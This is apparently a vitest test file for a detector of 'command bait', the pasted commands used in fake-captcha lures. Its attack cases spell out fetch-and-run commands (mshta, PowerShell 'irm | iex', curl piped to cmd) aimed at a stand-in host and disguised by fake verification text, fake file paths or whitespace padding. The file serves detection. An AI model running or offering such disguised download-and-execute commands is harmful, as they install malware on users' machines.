import { expect, test } from 'vitest'
import { commandOf, hits } from '../testing.ts'
import detector from './command-bait.ts'

const titles = (command: string) => hits(detector, commandOf(command)).map(({ title }) => title)

test.each([
  ['a check', 'mshta https://a.invalid/x # I am not a robot - reCAPTCHA verification hash 8842', 'talk'],
  ['a path', 'powershell -c "irm a.invalid | iex" # C:\\Company\\Internal\\HRPolicy.docx', 'path'],
  ['a label', '%APPDATA%\\helper.exe      # Company helper', 'label'],
  [
    'blanks',
    'cmd /c curl https://a.invalid/x                                                                                          | cmd',
    'padding',
  ],
])('attack: %s', (_, command, signal) => {
  expect(titles(command)).toContain(detector.signals[signal]?.title)
})

test.each([
  ['npm test # runs everything'],
  ['ls # list'],
  ['git commit -m "fix captcha verification"'],
  ['# verify you are human'],
  ['npm run build   # see docs'],
])('innocent: %s', (command) => {
  expect(titles(command)).toEqual([])
})
